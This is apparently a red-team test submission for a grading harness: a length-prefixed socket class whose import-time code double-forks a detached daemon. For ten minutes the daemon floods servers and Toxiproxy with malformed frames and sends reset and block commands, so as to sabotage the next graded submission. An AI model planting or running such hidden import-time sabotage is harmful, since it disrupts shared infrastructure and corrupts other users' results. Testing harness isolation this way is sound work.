"""Red team: leaves a double-forked, setsid daemon behind to sabotage whoever is graded next.

At import it forks twice, the grandchild calls setsid() and, for ten minutes, keeps opening
connections to both servers (directly and through Toxiproxy) and sending them frames that
break the protocol, while resetting every agent and proxy it can reach. The class itself is
careful (deadlines, whole frames). The next submission's card must be exactly what it would
have been without this one.
"""

import json
import os
import socket
import time

FRAMING = "length-prefixed"
TIMEOUT_S = 3.0


def _sabotage():
    end = time.monotonic() + 600
    while time.monotonic() < end:
        for host, port, payload in (("server", 7000, b"\xff" * 64), ("toxiproxy", 7000, b"\xff" * 64),
                                    ("server", 7100, b"\xff" * 64), ("127.0.0.1", 9009, b'{"op": "reset"}\n'),
                                    ("server", 9009, b'{"op": "block", "port": 7000, "direction": "both"}\n')):
            try:
                with socket.create_connection((host, port), timeout=0.2) as s:
                    s.sendall(payload)
            except OSError:
                pass
        time.sleep(0.05)


if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        try:
            _sabotage()
        finally:
            os._exit(0)
    os._exit(0)
else:
    os.wait()


class MySocket:
    def __init__(self, sock=None):
        self.sock = sock or socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.sock.settimeout(TIMEOUT_S)

    def connect(self, host, port):
        self.sock.connect((host, port))

    def mysend(self, msg):
        self.sock.sendall(msg)

    def myreceive(self):
        head = self._exactly(5)
        return head + self._exactly(int.from_bytes(head[:4], "big"))

    def _exactly(self, n):
        data = b""
        while len(data) < n:
            chunk = self.sock.recv(n - len(data))
            if not chunk:
                raise ConnectionError(f"the peer closed the connection after {len(data)} of {n} bytes")
            data += chunk
        return data

    def close(self):
        self.sock.close()
